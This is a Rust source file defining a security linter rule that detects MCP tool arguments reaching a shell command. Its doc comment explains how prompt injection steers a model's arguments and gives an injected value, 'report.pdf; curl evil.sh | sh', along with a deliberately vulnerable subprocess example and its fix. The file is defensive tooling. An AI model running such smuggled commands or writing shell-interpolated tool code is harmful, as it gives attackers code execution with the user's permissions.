use crate::code::catalog::SinkKind;
use crate::code::taint::HitKind;
use crate::declare_rule;

use super::{Flow, TaintRule};

declare_rule! {
    /// ## What it does
    /// Finds tool, resource and prompt arguments that reach a command line run by a shell: `subprocess`
    /// calls with `shell=True`, `os.system`, `os.popen`, `asyncio.create_subprocess_shell`, whether the
    /// argument is the whole command or pasted into one.
    ///
    /// ## Why is this bad?
    /// The model chooses the argument, and the model follows instructions it reads in web pages, files
    /// and other tools' output. A shell gives `;`, `&&`, `|`, `$(...)` and backticks their meaning, so
    /// one prompt injection turns `report.pdf` into `report.pdf; curl evil.sh | sh`, run with the
    /// user's permissions.
    ///
    /// ## Example
    /// ```python
    /// from mcp.server.fastmcp import FastMCP
    ///
    /// mcp = FastMCP("demo")
    ///
    /// @mcp.tool()
    /// def grep_logs(pattern: str) -> str:
    ///     import subprocess
    ///     return subprocess.run(f"grep {pattern} /var/log/app.log", shell=True, capture_output=True, text=True).stdout
    /// ```
    ///
    /// ## Use instead
    /// ```python
    /// from mcp.server.fastmcp import FastMCP
    ///
    /// mcp = FastMCP("demo")
    ///
    /// @mcp.tool()
    /// def grep_logs(pattern: str) -> str:
    ///     import subprocess
    ///     return subprocess.run(["grep", "--", pattern, "/var/log/app.log"], capture_output=True, text=True, timeout=10).stdout
    /// ```
    ///
    /// ## References
    /// - [CWE-78: OS Command Injection](https://cwe.mitre.org/data/definitions/78.html)
    /// - [Python: security considerations for subprocess](https://docs.python.org/3/library/subprocess.html#security-considerations)
    /// - [MCP Security Best Practices](https://modelcontextprotocol.io/docs/tutorials/security/security_best_practices)
    pub static SHELL_COMMAND_FROM_TOOL_ARGUMENT = {
        code: "PC101",
        name: "shell-command-from-tool-argument",
        summary: "A tool argument reaches a command run by a shell",
        severity: Critical,
        confidence: High,
        cwe: [78],
        target: Code,
    }
}

fn describe(f: &Flow<'_>) -> (String, String) {
    (format!("{} reaches a shell in `{}`", f.subject(), f.what), f.by_language("Pass an argument list without a shell (`subprocess.run([\"prog\", \"--\", value])`); if a shell is unavoidable, quote each value with `shlex.quote` and allow only known commands.", "Pass an argument list without a shell (`execFile(\"prog\", [\"--\", value])`, `spawn` without `shell: true`); if a shell is unavoidable, quote each value with a shell quoting library and allow only known commands."))
}

pub(super) static RULE: TaintRule = TaintRule {
    meta: &SHELL_COMMAND_FROM_TOOL_ARGUMENT,
    kind: HitKind::Sink(SinkKind::Shell),
    describe,
};
